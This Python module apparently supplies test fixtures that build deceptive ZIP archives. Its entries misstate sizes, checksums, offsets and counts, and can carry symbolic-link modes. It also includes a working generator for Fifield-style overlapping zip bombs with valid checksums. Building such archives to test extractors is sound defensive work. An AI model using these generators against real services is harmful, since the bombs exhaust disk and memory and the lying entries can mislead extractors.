"""Archives that say one thing and hold another, built byte by byte."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Sequence
from dataclasses import dataclass, replace

LOCAL = struct.Struct("<4s5H3L2H")
ENTRY = struct.Struct("<4s6H3L5H2L")
END = struct.Struct("<4s4H2LH")
STORED, DEFLATED = 0, 8
UTF8 = 0x800
SYMLINK = 0o120777 << 16  # the mode of a symbolic link, where Unix tools put it
UNIX = 3 << 8


@dataclass(frozen=True, kw_only=True)
class Part:
    """One entry as the directory will claim it."""

    name: bytes
    packed: bytes
    size: int
    crc: int
    method: int = DEFLATED
    flags: int = UTF8
    attributes: int = 0
    offset: int | None = None
    """Where the directory says that it begins; None: where it does."""
    packed_size: int | None = None


def deflated(data: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


def part(name: str | bytes, data: bytes, **claims: int | None) -> Part:
    """An honest entry but for the claims given."""
    facts = {"size": len(data), "crc": zlib.crc32(data), **claims}
    encoded = name.encode() if isinstance(name, str) else name
    packed = data if claims.get("method") == STORED else deflated(data)
    return Part(name=encoded, packed=packed, **facts)  # type: ignore[arg-type]


def local(entry: Part) -> bytes:
    return (
        LOCAL.pack(
            b"PK\x03\x04",
            *(20, entry.flags, entry.method, 0, 0x21, entry.crc),
            *(len(entry.packed), min(entry.size, 0xFFFFFFFF), len(entry.name), 0),
        )
        + entry.name
    )


def archive(parts: Sequence[Part], *, body: bytes | None = None, count: int | None = None) -> bytes:
    """A ZIP of the parts; with `body` that stands for all local entries."""
    written, directory = bytearray(body or b""), bytearray()
    for entry in parts:
        offset = len(written) if entry.offset is None else entry.offset
        if body is None:
            written += local(entry) + entry.packed
        packed_size = len(entry.packed) if entry.packed_size is None else entry.packed_size
        directory += (
            ENTRY.pack(
                b"PK\x01\x02",
                *(UNIX | 20, 20, entry.flags, entry.method, 0, 0x21, entry.crc),
                *(packed_size, min(entry.size, 0xFFFFFFFF), len(entry.name)),
                *(0, 0, 0, 0, entry.attributes, offset),
            )
            + entry.name
        )
    stated = len(parts) if count is None else count
    sizes = (len(directory), len(written), 0)
    return bytes(written + directory + END.pack(b"PK\x05\x06", 0, 0, stated, stated, *sizes))


def overlapping(count: int, *, kernel_bytes: int) -> bytes:
    """Entries that quote each other's headers and share one kernel, after Fifield's "A better zip
    bomb" (2019): few bytes, `count` times `kernel_bytes` unpacked, and every checksum is right.
    """
    content = bytes(kernel_bytes)
    body = deflated(content)
    parts: list[Part] = []
    for number in reversed(range(count)):
        if parts:  # a stored block that holds the next header; the next stream goes on behind it
            head = body[: LOCAL.size + len(parts[0].name)]
            body = struct.pack("<BHH", 0, len(head), len(head) ^ 0xFFFF) + body
            content = head + content
        entry = Part(
            name=f"{number:06}.json".encode(),
            packed=body,
            size=len(content),
            crc=zlib.crc32(content),
        )
        body = local(entry) + body
        parts.insert(0, entry)
    begins = len(body)
    placed = [
        replace(each, packed=b"", packed_size=len(each.packed), offset=begins - size)
        for each in parts
        if (size := len(each.packed) + LOCAL.size + len(each.name))
    ]
    return archive(placed, body=body)
